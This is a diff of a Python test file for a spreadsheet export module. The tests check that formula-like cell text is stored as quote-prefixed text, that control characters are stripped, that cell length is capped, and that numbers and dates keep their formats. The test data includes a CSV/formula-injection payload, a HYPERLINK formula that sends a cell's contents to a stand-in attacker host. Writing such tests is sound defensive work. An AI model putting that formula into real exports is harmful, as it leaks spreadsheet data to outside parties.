@@ -1,4 +1,7 @@
-"""Exports cannot carry formulas from the data, and are written row by row."""
+"""Exports cannot carry formulas from the data, and are written row by row.
+
+Formula-like text is a text cell with Excel's quote-prefix style (no visible apostrophe, kept as
+text when edited); tests/core/test_workbook_libreoffice.py shows LibreOffice reading it back."""
 
 import datetime as dt
 import io
@@ -7,7 +10,7 @@ from decimal import Decimal
 import pytest
 from openpyxl import load_workbook
 
-from core.xlsx import XlsxWriter, escape_formula, write_rows
+from core.xlsx import MONEY_FORMAT, XlsxWriter, clean_text, formula_like, write_rows
 
 DANGEROUS = [
     '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
@@ -21,13 +24,14 @@ DANGEROUS = [
 
 
 @pytest.mark.parametrize("text", DANGEROUS)
-def test_text_that_excel_would_run_is_escaped(text):
-    assert escape_formula(text) == "'" + text
+def test_text_that_excel_would_run_is_recognised(text):
+    assert formula_like(clean_text(text))
 
 
 @pytest.mark.parametrize("text", ["张三", "410821", "备注: =1", "a-b", ""])
 def test_plain_text_is_unchanged(text):
-    assert escape_formula(text) == text
+    assert not formula_like(text)
+    assert clean_text(text) == text
 
 
 def _read(buffer):
@@ -43,9 +47,9 @@ def test_export_holds_no_formula_whatever_the_data():
     assert sheet.title == "户清单"  # '/' is not allowed in a sheet title
     for cells, text in zip(sheet.iter_rows(min_row=2), DANGEROUS, strict=True):
         assert cells[0].data_type == "s"
-        assert cells[0].value.startswith("'")
-        if "\r" not in text:  # XML normalises a carriage return
-            assert cells[0].value == "'" + text
+        assert cells[0].quotePrefix  # Excel's quote prefix: no apostrophe in the text
+        assert cells[0].value == text.replace("\t", "")  # a tab is a control character: removed
+        assert not cells[1].quotePrefix
     with zip_open(buffer) as xml:
         assert "<f>" not in xml  # no formula element anywhere in the sheet
 
@@ -72,7 +76,10 @@ def test_typed_values_stay_typed():
         headers=["amount", "count", "date", "when", "negative"],
         rows=[[Decimal("1234.50"), 3, dt.date(2017, 5, 12), when, -5]],
     )
-    cells = next(_read(buffer).active.iter_rows(min_row=2, values_only=True))
+    row = next(_read(buffer).active.iter_rows(min_row=2))
+    assert row[0].number_format == MONEY_FORMAT  # yuan: #,##0.00
+    assert row[2].is_date
+    cells = [cell.value for cell in row]
     assert cells[0] == pytest.approx(1234.5)
     assert cells[1] == 3
     assert cells[2].date() == dt.date(2017, 5, 12)
@@ -83,8 +90,10 @@ def test_typed_values_stay_typed():
 
 def test_control_characters_do_not_break_the_file():
     buffer = io.BytesIO()
-    write_rows(buffer, title="x", headers=["a"], rows=[["李\x00四\x1b"]])
-    assert next(_read(buffer).active.iter_rows(min_row=2, values_only=True))[0] == "李四"
+    write_rows(buffer, title="x", headers=["a"], rows=[["李\x00四\x1b"], ["一行\n两行\r\n"], ["长" * 40000]])
+    values = [row[0] for row in _read(buffer).active.iter_rows(min_row=2, values_only=True)]
+    assert values[:2] == ["李四", "一行\n两行\r\n"]  # line breaks stay
+    assert len(values[2]) == 32767  # Excel's limit for a cell
 
 
 def test_many_rows_stream_through_a_write_only_book():
@@ -109,4 +118,5 @@ def test_download_response(rf):
     assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
     assert "attachment" in response["Content-Disposition"]
     body = io.BytesIO(b"".join(response.streaming_content))
-    assert load_workbook(body).active["A2"].value == "'=1+1"
+    cell = load_workbook(body).active["A2"]
+    assert (cell.value, cell.data_type, cell.quotePrefix) == ("=1+1", "s", True)
